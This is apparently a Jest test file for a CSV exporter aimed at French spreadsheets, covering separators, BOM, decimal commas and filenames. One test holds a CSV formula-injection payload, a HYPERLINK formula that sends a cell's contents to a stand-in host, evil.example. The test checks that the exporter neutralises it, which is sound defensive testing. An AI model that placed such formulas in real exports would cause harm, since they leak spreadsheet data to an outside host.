import { csvCount, csvDecimal, csvFilename, csvRate, toCsv } from './csv';

describe('CSV for French spreadsheets', () => {
  it('separates fields with semicolons, ends lines with CRLF, starts with a byte-order mark and quotes what needs it', () => {
    expect(
      toCsv([
        ['Activité', 'Note'],
        ['Pilates; respiration', '"bien"'],
      ]),
    ).toBe('\ufeffActivité;Note\r\n"Pilates; respiration";"""bien"""\r\n');
  });

  it('writes a testimonial or title that would start a formula as text, so the coordinator’s spreadsheet never runs it', () => {
    const csv = toCsv([
      ['Témoignages', 'Groupe de parole', '2026-01', '=HYPERLINK("https://evil.example/?q="&A1;"Merci")'],
      ['Par activité', '@SUM(A1:A9)', 'Séances', 3],
    ]);

    expect(csv).toBe(
      '\ufeffTémoignages;Groupe de parole;2026-01;"\'=HYPERLINK(""https://evil.example/?q=""&A1;""Merci"")"\r\n' +
        "Par activité;'@SUM(A1:A9);Séances;3\r\n",
    );
  });

  it('writes rates as percentages and decimals with a comma, hidden counts as shown, nothing for null', () => {
    expect(csvRate(0.8333)).toBe('83,3');
    expect(csvRate(1)).toBe('100,0');
    expect(csvRate(null)).toBe('');
    expect(csvDecimal(4.55)).toBe('4,55');
    expect(csvCount('<5')).toBe('<5');
    expect(csvCount(0)).toBe('0');
    expect(csvCount(undefined)).toBe('');
  });

  it('names the file after the period', () => {
    expect(csvFilename('participants', '2026-01-01', '2026-06-30')).toBe(
      'respire-participants-2026-01-01_2026-06-30.csv',
    );
    expect(csvFilename('participants', null, null)).toBe('respire-participants-debut_aujourdhui.csv');
  });
});
